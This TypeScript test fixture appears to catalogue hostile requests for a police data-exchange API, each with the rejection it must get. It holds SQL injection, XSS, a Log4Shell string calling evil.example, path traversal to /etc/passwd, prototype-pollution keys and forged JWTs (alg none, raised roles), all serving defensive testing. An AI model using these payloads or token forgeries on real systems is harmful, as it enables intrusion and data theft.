import { base64url, SignJWT } from 'jose';
import fc from 'fast-check';
import { DEV_AUDIENCE, DEV_ISSUER, DEV_SECRET } from '@ixr/auth';
import { requestBody } from './api';

/**
 * The hostile-input catalogue of the API: hand-written attacks and property-based mutations of a
 * valid request, each with the answer it must get and words its error must contain (the error
 * names the problem). Deterministic: fast-check runs with fixed seeds.
 */
export interface HostileRequest {
  family: string;
  name: string;
  method: string;
  path: string;
  headers?: Record<string, string>;
  /** The exact bytes sent (a string is sent as UTF-8). */
  body?: string | Buffer;
  /** The requester's good token (default), a SPOC operator's, or the headers' own Authorization. */
  auth?: 'good' | 'spoc' | 'own';
  status: number[];
  /** All must appear (case-insensitive) in the error's code, message or details. */
  mentions: string[];
}

const SEED = 20260701;
const REQUIRED = [
  'missionType',
  'targetCountries',
  'offence',
  'informationSought',
  'purpose',
  'justification',
  'subjects',
  'urgency',
  'accessibility',
  'handlingCode',
  'language',
] as const;
const INJECTIONS = [
  "judicial' OR '1'='1",
  'H1; DROP TABLE requests; --',
  "'); DELETE FROM exchange_log; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '$where: sleep(1000)',
  'UNION SELECT password FROM users',
];

const json = (value: unknown): string => JSON.stringify(value);
const valid = (): Record<string, unknown> => ({ ...requestBody() });
const submit = (
  family: string,
  name: string,
  body: string | Buffer,
  status: number[],
  mentions: string[],
  headers?: Record<string, string>,
): HostileRequest => ({
  family,
  name,
  method: 'POST',
  path: '/v1/requests',
  headers: { 'content-type': 'application/json', ...headers },
  body,
  status,
  mentions,
});

function sample<T>(arbitrary: fc.Arbitrary<T>, numRuns: number, offset = 0): T[] {
  return fc.sample(arbitrary, { numRuns, seed: SEED + offset });
}

/** Values of another JSON type than `kind`. */
function wrongValue(kind: 'string' | 'object' | 'array' | 'boolean' | 'text'): fc.Arbitrary<unknown> {
  const all: Record<string, fc.Arbitrary<unknown>> = {
    number: fc.oneof(fc.integer(), fc.double({ noNaN: true })),
    boolean: fc.boolean(),
    null: fc.constant(null),
    array: fc.array(fc.integer(), { maxLength: 3 }),
    object: fc.dictionary(fc.string({ minLength: 1, maxLength: 5 }), fc.integer(), { maxKeys: 2 }),
    string: fc.string({ maxLength: 8 }),
  };
  const excluded = kind === 'text' ? ['string'] : [kind];
  return fc.oneof(
    ...Object.entries(all)
      .filter(([k]) => !excluded.includes(k))
      .map(([, a]) => a),
  );
}

function missingFields(): HostileRequest[] {
  return REQUIRED.map((field) => {
    const body = valid();
    delete body[field];
    return submit('missing field', field, json(body), [400], [field, 'VALIDATION_FAILED']);
  });
}

function wrongTypes(): HostileRequest[] {
  const kinds: Record<string, 'string' | 'object' | 'array' | 'boolean' | 'text'> = {
    missionType: 'string',
    targetCountries: 'array',
    offence: 'object',
    informationSought: 'text',
    purpose: 'text',
    justification: 'text',
    subjects: 'array',
    urgency: 'object',
    accessibility: 'string',
    handlingCode: 'string',
    language: 'string',
    sisAlert: 'object',
    lookup: 'string',
    borderRegion: 'boolean',
  };
  return Object.entries(kinds).flatMap(([field, kind], i) =>
    sample(wrongValue(kind), 6, i).map((value, n) => {
      const body = { ...valid(), [field]: value };
      return submit('wrong type', `${field} = ${json(value)} (#${n})`, json(body), [400], [field]);
    }),
  );
}

function extraFields(): HostileRequest[] {
  const known = new Set([
    ...Object.keys(valid()),
    'sisAlert',
    'lookup',
    'borderRegion',
    'category',
    'description',
    'type',
    'name',
    'dateOfBirth',
    'nationality',
    'documentNumber',
    'urgent',
  ]);
  const key = fc.stringMatching(/^[A-Za-z][A-Za-z0-9_]{0,11}$/).filter((k) => !known.has(k));
  const keys = sample(key, 24, 100);
  return keys.map((extra, n) => {
    const body = valid();
    const where = n % 4;
    if (where === 0) body[extra] = 'x';
    if (where === 1) body.offence = { ...(body.offence as object), [extra]: 1 };
    if (where === 2) body.subjects = [{ ...(body.subjects as object[])[0], [extra]: true }];
    if (where === 3) body.urgency = { urgent: false, [extra]: null };
    return submit(
      'extra field',
      `${['top', 'offence', 'subject', 'urgency'][where]}.${extra}`,
      json(body),
      [400],
      [extra],
    );
  });
}

function hugeStrings(): HostileRequest[] {
  const lengths = sample(fc.integer({ min: 4001, max: 60_000 }), 12, 200);
  const fields = ['informationSought', 'purpose', 'justification', 'offence.description'];
  const cases = lengths.map((length, n) => {
    const field = fields[n % fields.length];
    const body = valid();
    const text = 'A'.repeat(length);
    if (field === 'offence.description') body.offence = { category: 'fraud', description: text };
    else body[field] = text;
    return submit(
      'huge string',
      `${field} of ${length} characters`,
      json(body),
      [400],
      [field, 'at most 4000'],
    );
  });
  for (const length of sample(fc.integer({ min: 201, max: 5000 }), 4, 201)) {
    const body = { ...valid(), subjects: [{ type: 'person', name: 'N'.repeat(length) }] };
    cases.push(
      submit(
        'huge string',
        `subjects.0.name of ${length} characters`,
        json(body),
        [400],
        ['subjects.0.name', 'at most 200'],
      ),
    );
  }
  for (const size of [300_000, 1_000_000, 5_000_000]) {
    const body = { ...valid(), purpose: 'B'.repeat(size) };
    cases.push(submit('huge string', `body of ${size} bytes`, json(body), [413], ['PAYLOAD_TOO_LARGE']));
  }
  const many = {
    ...valid(),
    subjects: Array.from({ length: 51 }, () => ({ type: 'phone', number: '+32 2 000 00 00' })),
  };
  cases.push(submit('huge string', '51 subjects', json(many), [400], ['subjects', 'at most 50']));
  const targets = {
    ...valid(),
    targetCountries: [
      'NL',
      'FR',
      'DE',
      'LU',
      'IT',
      'ES',
      'PT',
      'AT',
      'PL',
      'CZ',
      'SK',
      'HU',
      'SI',
      'HR',
      'RO',
      'BG',
      'GR',
      'CY',
      'MT',
      'IE',
      'DK',
      'SE',
      'FI',
      'EE',
      'LV',
      'LT',
      'NO',
      'CH',
    ],
  };
  cases.push(
    submit('huge string', '28 target countries', json(targets), [400], ['targetCountries', 'at most 27']),
  );
  return cases;
}

function deepNesting(): HostileRequest[] {
  const depths = sample(fc.integer({ min: 65, max: 40_000 }), 10, 300);
  return depths.map((depth, n) => {
    const nested =
      n % 2 === 0
        ? `${'['.repeat(depth)}${']'.repeat(depth)}`
        : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const body = json({ ...valid(), purpose: '§' }).replace('"§"', nested);
    return submit(
      'deep nesting',
      `${n % 2 === 0 ? 'arrays' : 'objects'} ${depth} deep`,
      body,
      [400],
      ['nests deeper than 64'],
    );
  });
}

function prototypeKeys(): HostileRequest[] {
  const base = json(valid()).slice(1, -1);
  const cases: HostileRequest[] = [
    ['top-level __proto__', `{"__proto__":{"isAdmin":true},${base}}`, '__proto__'],
    [
      '__proto__ in offence',
      json(valid()).replace('"offence":{', '"offence":{"__proto__":{"polluted":1},'),
      '__proto__',
    ],
    [
      '__proto__ in a subject',
      json(valid()).replace('"subjects":[{', '"subjects":[{"__proto__":{"type":"other"},'),
      '__proto__',
    ],
    [
      '__proto__ in urgency',
      json(valid()).replace('"urgency":{', '"urgency":{"__proto__":null,'),
      '__proto__',
    ],
    ['__proto__ as an array item key', `{${base},"x":[{"__proto__":[]}]}`, '__proto__'],
    [
      'constructor.prototype at the top',
      `{"constructor":{"prototype":{"isAdmin":true}},${base}}`,
      'constructor',
    ],
    [
      'constructor.prototype in offence',
      json(valid()).replace('"offence":{', '"offence":{"constructor":{"prototype":{}},'),
      'constructor',
    ],
    ['constructor key at the top', `{"constructor":"Object",${base}}`, 'constructor'],
    [
      'constructor key in a subject',
      json(valid()).replace('"subjects":[{', '"subjects":[{"constructor":1,'),
      'constructor',
    ],
    ['prototype key at the top', `{"prototype":{},${base}}`, 'prototype'],
    ['toString key at the top', `{"toString":"x",${base}}`, 'toString'],
    ['hasOwnProperty key at the top', `{"hasOwnProperty":0,${base}}`, 'hasOwnProperty'],
  ].map(([name, body, mention]) => submit('prototype keys', name, body, [400], [mention]));
  return cases;
}

function injections(): HostileRequest[] {
  const fields = [
    'missionType',
    'handlingCode',
    'language',
    'accessibility',
    'targetCountries',
    'offence.category',
    'subjects.0.type',
    'urgency.ground',
    'lookup',
    'subjects.0.nationality',
  ];
  const cases: HostileRequest[] = [];
  const picks = sample(fc.tuple(fc.constantFrom(...fields), fc.constantFrom(...INJECTIONS)), 40, 400);
  picks.forEach(([field, payload], n) => {
    const body = valid();
    switch (field) {
      case 'targetCountries':
        body.targetCountries = [payload];
        break;
      case 'offence.category':
        body.offence = { category: payload, description: 'x' };
        break;
      case 'subjects.0.type':
        body.subjects = [{ type: payload }];
        break;
      case 'subjects.0.nationality':
        body.subjects = [{ type: 'person', nationality: payload }];
        break;
      case 'urgency.ground':
        body.urgency = { urgent: true, ground: payload, reason: 'now' };
        break;
      default:
        body[field] = payload;
    }
    cases.push(
      submit(
        'injection-looking text',
        `${field} = ${payload} (#${n})`,
        json(body),
        [400],
        [field.split('.')[0]],
      ),
    );
  });
  INJECTIONS.forEach((payload, n) => {
    cases.push({
      family: 'injection-looking text',
      name: `request id ${payload}`,
      method: 'GET',
      path: `/v1/requests/${encodeURIComponent(payload)}`,
      status: [404],
      mentions: ['not a request id'],
    });
    cases.push(
      submit(
        'injection-looking text',
        `Idempotency-Key ${payload} (#${n})`,
        json(valid()),
        [400],
        ['Idempotency-Key'],
        { 'idempotency-key': payload.replace(/[^\x20-\x7e]/g, '') },
      ),
    );
  });
  return cases;
}

function invalidUtf8(): HostileRequest[] {
  const badSequences = [
    [0xc3, 0x28],
    [0xff],
    [0xfe, 0xfe],
    [0xed, 0xa0, 0x80],
    [0xf8, 0x88, 0x80, 0x80, 0x80],
    [0xe2, 0x82],
    [0xc0, 0xaf],
    [0x80],
    [0xf4, 0x90, 0x80, 0x80],
  ];
  const picks = sample(
    fc.tuple(
      fc.constantFrom(...badSequences),
      fc.constantFrom('purpose', 'justification', 'informationSought'),
      fc.nat(20),
    ),
    18,
    500,
  );
  return picks.map(([bytes, field, at], n) => {
    const body = valid();
    const text = String(body[field]);
    body[field] = `${text.slice(0, at)}§${text.slice(at)}`;
    const [before, after] = json(body).split('§') as [string, string];
    return submit(
      'invalid UTF-8',
      `${bytes.map((b) => b.toString(16)).join(' ')} in ${field} (#${n})`,
      Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]),
      [400],
      ['not valid UTF-8'],
    );
  });
}

function controlCharacters(): HostileRequest[] {
  const escapes = [
    '\\u0000',
    '\\u0007',
    '\\u001b[31m',
    '\\u0008',
    '\\u007f',
    '\\u0085',
    '\\ud800',
    '\\udfff',
    '\\u000b',
    '\\u009b',
  ];
  return escapes.map((escape, n) => {
    const field = ['purpose', 'justification', 'informationSought'][n % 3];
    const body = json({ ...valid(), [field]: `Case §` }).replace('§', escape);
    const lone = escape === '\\ud800' || escape === '\\udfff';
    return submit(
      'control characters',
      `${escape} in ${field}`,
      body,
      [400],
      [field, lone ? 'lone surrogate' : 'control characters'],
    );
  });
}

/** Lone surrogates anywhere in any body, and unsafe X-Justification text: 400, never 500. */
function unsafeText(): HostileRequest[] {
  const cases: HostileRequest[] = [
    {
      family: 'unsafe text',
      name: 'lone surrogate in a reply text',
      method: 'POST',
      path: '/v1/requests/00000000-0000-4000-8000-000000000000/replies',
      auth: 'spoc',
      headers: { 'content-type': 'application/json' },
      body: '{"text":"Known address \\ud800 in Rotterdam"}',
      status: [400],
      mentions: ['lone surrogate', 'text'],
    },
    submit('unsafe text', 'lone surrogate in a key', '{"a\\udc00b":1}', [400], ['lone surrogate']),
  ];
  // UTF-8 bytes, as a client sends them (Node reads header values as Latin-1).
  const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
  for (const [name, value] of [
    ['right-to-left override', utf8('approved \u202Ebus\u202C case')],
    ['first-strong isolate', utf8('case \u2068x\u2069')],
    ['C1 control', 'case \u0085 next'],
  ]) {
    cases.push({
      ...submit('unsafe text', `X-Justification with a ${name}`, json(valid()), [400], ['X-Justification']),
      headers: { 'content-type': 'application/json', 'x-justification': value },
    });
  }
  return cases;
}

function contentTypes(): HostileRequest[] {
  const body = json(valid());
  return [
    ['text/plain', 415],
    ['application/xml', 415],
    ['application/x-www-form-urlencoded', 415],
    ['multipart/form-data; boundary=x', 415],
    ['text/html', 415],
    ['application/json; charset=latin1', 415],
    ['application/json; charset=utf-16', 415],
    ['application/vnd.api+json', 415],
    ['application/jsonx', 415],
    ['image/png', 415],
    ['', 415],
  ].map(([type, status]) =>
    submit(
      'content type',
      `Content-Type: ${type || '(none)'}`,
      body,
      [status as number],
      ['UNSUPPORTED_MEDIA_TYPE'],
      { 'content-type': type as string },
    ),
  );
}

function malformedJson(): HostileRequest[] {
  const body = json(valid());
  return [
    ['truncated', body.slice(0, body.length / 2), 'not valid JSON'],
    ['trailing comma', body.replace(/}$/, ',}'), 'not valid JSON'],
    ['single quotes', body.replace(/"/g, "'"), 'not valid JSON'],
    ['NaN value', body.replace('"judicial"', 'NaN'), 'not valid JSON'],
    ['comment', `/* x */${body}`, 'not valid JSON'],
    ['two documents', `${body}${body}`, 'not valid JSON'],
    ['empty body', '', 'empty'],
    ['whitespace only', '   ', 'not valid JSON'],
    ['null', 'null', 'JSON object'],
    ['array', '[]', 'JSON object'],
    ['number', '123', 'JSON object'],
    ['string', '"hello"', 'JSON object'],
    ['byte order mark', `\ufeff${body}`, 'not valid JSON'],
  ].map(([name, text, mention]) => submit('malformed JSON', name, text, [400], [mention]));
}

/** Tokens a caller could forge or replay: each must get 401 naming why. */
export async function hostileTokens(goodToken: string): Promise<HostileRequest[]> {
  const secret = new TextEncoder().encode(DEV_SECRET);
  const claims = { unit: 'PZ-5339', level: 'local', roles: ['requester'] };
  const sign = (payload: Record<string, unknown>, alg = 'HS256', key: Uint8Array = secret) => {
    let jwt = new SignJWT(payload).setProtectedHeader({ alg, typ: 'JWT' }).setSubject('officer-1');
    if (!('iss' in payload)) jwt = jwt.setIssuer(DEV_ISSUER);
    if (!('aud' in payload)) jwt = jwt.setAudience(DEV_AUDIENCE);
    if (!('exp' in payload)) jwt = jwt.setExpirationTime('1h');
    return jwt.sign(key);
  };
  const now = Math.floor(Date.now() / 1000);
  const part = (o: object) => base64url.encode(JSON.stringify(o));
  const [header, payload, signature] = goodToken.split('.') as [string, string, string];
  const elevated = part({
    ...(JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>),
    roles: ['spoc_operator', 'admin'],
  });
  const unsignedPayload = part({ ...claims, sub: 'x', iss: DEV_ISSUER, aud: DEV_AUDIENCE, exp: now + 600 });
  const cases: [string, string | undefined, string][] = [
    ['no Authorization header', undefined, 'missing Authorization'],
    ['empty Bearer', 'Bearer ', 'Bearer <token>'],
    ['Basic credentials', 'Basic dXNlcjpwYXNz', 'Bearer <token>'],
    ['lower-case scheme', `bearer ${goodToken}`, 'Bearer <token>'],
    ['two tokens', `Bearer ${goodToken} ${goodToken}`, 'Bearer <token>'],
    ['garbage', 'Bearer not-a-token', 'malformed'],
    ['alg none, unsigned', `Bearer ${part({ alg: 'none', typ: 'JWT' })}.${unsignedPayload}.`, 'algorithm'],
    [
      'alg none, signature kept',
      `Bearer ${part({ alg: 'none', typ: 'JWT' })}.${unsignedPayload}.${signature}`,
      'algorithm',
    ],
    ['alg "None"', `Bearer ${part({ alg: 'None' })}.${unsignedPayload}.`, 'token'],
    ['unsigned HS256', `Bearer ${header}.${payload}.`, 'signature'],
    ['roles raised, signature kept', `Bearer ${header}.${elevated}.${signature}`, 'signature'],
    [
      'forged with another secret',
      `Bearer ${await sign({ ...claims }, 'HS256', new TextEncoder().encode('an-attacker-guessed-this-secret-value!!'))}`,
      'signature',
    ],
    ['expired', `Bearer ${await sign({ ...claims, exp: now - 3600 })}`, 'expired'],
    ['from another issuer', `Bearer ${await sign({ ...claims, iss: 'evil-idp' })}`, 'iss'],
    ['for another audience', `Bearer ${await sign({ ...claims, aud: 'other-system' })}`, 'aud'],
    ['not valid yet', `Bearer ${await sign({ ...claims, nbf: now + 3600 })}`, 'nbf'],
    ['HS512 instead of HS256', `Bearer ${await sign({ ...claims }, 'HS512')}`, 'algorithm'],
    ['unknown role', `Bearer ${await sign({ ...claims, roles: ['superuser'] })}`, 'roles'],
    ['no roles', `Bearer ${await sign({ ...claims, roles: [] })}`, 'roles'],
    ['bad unit', `Bearer ${await sign({ ...claims, unit: "PZ'; DROP TABLE requests;--" })}`, 'unit'],
    ['bad level', `Bearer ${await sign({ ...claims, level: 'galactic' })}`, 'level'],
    ['oversized token', `Bearer ${'a'.repeat(9000)}`, 'too long'],
    ['payload not JSON', `Bearer ${header}.${base64url.encode('not json')}.${signature}`, 'token'],
  ];
  const tokenShaped = fc.tuple(
    fc.base64String({ minLength: 4, maxLength: 40 }),
    fc.base64String({ minLength: 4, maxLength: 40 }),
    fc.base64String({ maxLength: 40 }),
  );
  sample(tokenShaped, 15, 600).forEach(([a, b, c], n) => {
    const clean = (s: string) => s.replace(/[+/=]/g, 'A');
    cases.push([`random token-shaped string (#${n})`, `Bearer ${clean(a)}.${clean(b)}.${clean(c)}`, 'token']);
  });
  return cases.map(([name, authorization, mention]): HostileRequest => ({
    family: 'tokens',
    name,
    method: 'GET',
    path: '/v1/requests/00000000-0000-4000-8000-000000000000',
    headers: authorization === undefined ? {} : { authorization },
    auth: 'own',
    status: [401],
    mentions: ['UNAUTHENTICATED', mention],
  }));
}

function headersAndRoutes(): HostileRequest[] {
  const cases: HostileRequest[] = [];
  for (const key of ['', 'a'.repeat(201), 'has space', 'quote"s', 'semi;colon', 'é-accent']) {
    if (key === '') continue; // an empty header is no header
    cases.push(
      submit(
        'headers',
        `Idempotency-Key ${JSON.stringify(key.slice(0, 20))}`,
        json(valid()),
        [400],
        ['Idempotency-Key'],
        { 'idempotency-key': key },
      ),
    );
  }
  for (const [method, path, status, mention] of [
    ['DELETE', '/v1/requests/00000000-0000-4000-8000-000000000000', 404, 'NOT_FOUND'],
    ['PATCH', '/v1/requests/00000000-0000-4000-8000-000000000000', 404, 'NOT_FOUND'],
    ['PUT', '/v1/requests', 404, 'NOT_FOUND'],
    ['GET', '/v1/requests/not-a-uuid', 404, 'not a request id'],
    ['GET', '/v1/requests/00000000-0000-4000-8000-000000000000%00', 404, 'not a request id'],
    ['GET', `/v1/requests/${'9'.repeat(2000)}`, 414, 'URI_TOO_LONG'],
    ['GET', '/v1/requests/%E0%A4%A', 400, 'BAD_REQUEST'],
    ['GET', '/v1/rulesets/%C0%AF', 400, 'BAD_REQUEST'],
    ['GET', '/v1/requests/00000000-0000-4000-8000-000000000000', 404, 'no request'],
    ['GET', '/v1/requests/00000000-0000-4000-8000-000000000000/decision', 404, 'no request'],
    ['GET', '/v1/../../etc/passwd', 404, 'NOT_FOUND'],
    ['GET', '/v2/requests', 404, 'NOT_FOUND'],
  ] as const) {
    cases.push({
      family: 'routes',
      name: `${method} ${path.slice(0, 60)}`,
      method,
      path,
      status: [status],
      mentions: [mention],
    });
  }
  return cases;
}

/** Simulation bodies are validated the same way, with the nested path named. */
function simulations(): HostileRequest[] {
  const bodies: [string, unknown, string][] = [
    ['missing request', {}, 'request'],
    ['request missing purpose', { request: { ...valid(), purpose: undefined } }, 'request.purpose'],
    ['request with extra field', { request: { ...valid(), extra: 1 } }, 'extra'],
    ['bad requestingUnit', { request: valid(), requestingUnit: "x' OR 1=1" }, 'requestingUnit'],
    ['unknown top-level field', { request: valid(), dryRun: false }, 'dryRun'],
  ];
  return bodies.map(([name, body, mention]) => ({
    family: 'simulation',
    name,
    method: 'POST',
    path: '/v1/routing/simulate',
    auth: 'spoc',
    headers: { 'content-type': 'application/json' },
    body: json(body),
    status: [400],
    mentions: [mention],
  }));
}

/** Every hostile request but the token family (which needs the good token to mutate). */
export function hostileRequests(): HostileRequest[] {
  return [
    ...missingFields(),
    ...wrongTypes(),
    ...extraFields(),
    ...hugeStrings(),
    ...deepNesting(),
    ...prototypeKeys(),
    ...injections(),
    ...invalidUtf8(),
    ...controlCharacters(),
    ...unsafeText(),
    ...contentTypes(),
    ...malformedJson(),
    ...headersAndRoutes(),
    ...simulations(),
  ];
}
